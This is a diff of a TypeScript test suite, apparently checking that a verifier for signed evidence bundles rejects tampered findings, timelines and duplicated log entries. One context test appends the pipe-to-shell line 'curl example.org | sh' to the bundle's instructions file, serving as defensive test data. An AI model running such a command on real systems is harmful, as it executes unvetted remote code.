@@ -7,7 +7,7 @@ import { sha256Hex } from '../../utils/chain/sha256';
 import { makeBundle } from '../../utils/evidence/bundle';
 import { toPem } from '../../utils/evidence/pem';
 import { verifyBundle } from '../../utils/evidence/verify';
-import { type Key, type LittleLog, littleLog, newKey, semarang } from './little-log';
+import { type Key, type LittleLog, littleLog, newKey, sameLook, semarang } from './little-log';
 import { Tampered } from './tampered';
 
 const options = { profile: 'lengkap', now: '2020-08-06T06:00:00.000Z', clock: 'device', offsetMin: 420 } as const;
@@ -167,6 +167,26 @@ describe('further attacks', () => {
   it('findings that the entries do not bear out', async () => {
     bag = (await Tampered.open(zip)).edit('data/temuan.json', (json) => json.replaceAll('"Aktif"', '"Selesai"'));
     expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['findings']);
+  });
+  it('a time line for machines that the entries do not bear out', async () => {
+    bag = (await Tampered.open(zip)).edit('data/linimasa.json', (json) => json.replaceAll('"Aktif"', '"Selesai"'));
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['findings']);
+  });
+  it.each([
+    ['itself', 4],
+    ['a later look', 5],
+    ['an entry that is no look', 2],
+    ['a look that repeats another', 3],
+    ['nothing', 99],
+  ])('an unchanged look that repeats %s', async (_, sameAs) => {
+    const drafts = semarang(key).map((draft, seq) => (seq === 4 ? sameLook(draft.time, sameAs) : draft));
+    const { bytes } = await makeBundle(littleLog(key, drafts), options);
+    expect(await failed(await Tampered.open(bytes))).toEqual(['records']);
+  });
+  it('a finding that rests on a look after it', async () => {
+    const drafts = semarang(key).map((draft) => (draft.kind === 'finding' ? { ...draft, body: { ...draft.body, from_seq: 8 } } : draft));
+    const { bytes } = await makeBundle(littleLog(key, drafts), options);
+    expect(await failed(await Tampered.open(bytes))).toEqual(['findings']);
   });
   it('instructions that tell the reader to run something', async () => {
     bag = (await Tampered.open(zip)).edit('PERIKSA.txt', (text) => `${text}\ncurl example.org | sh\n`);
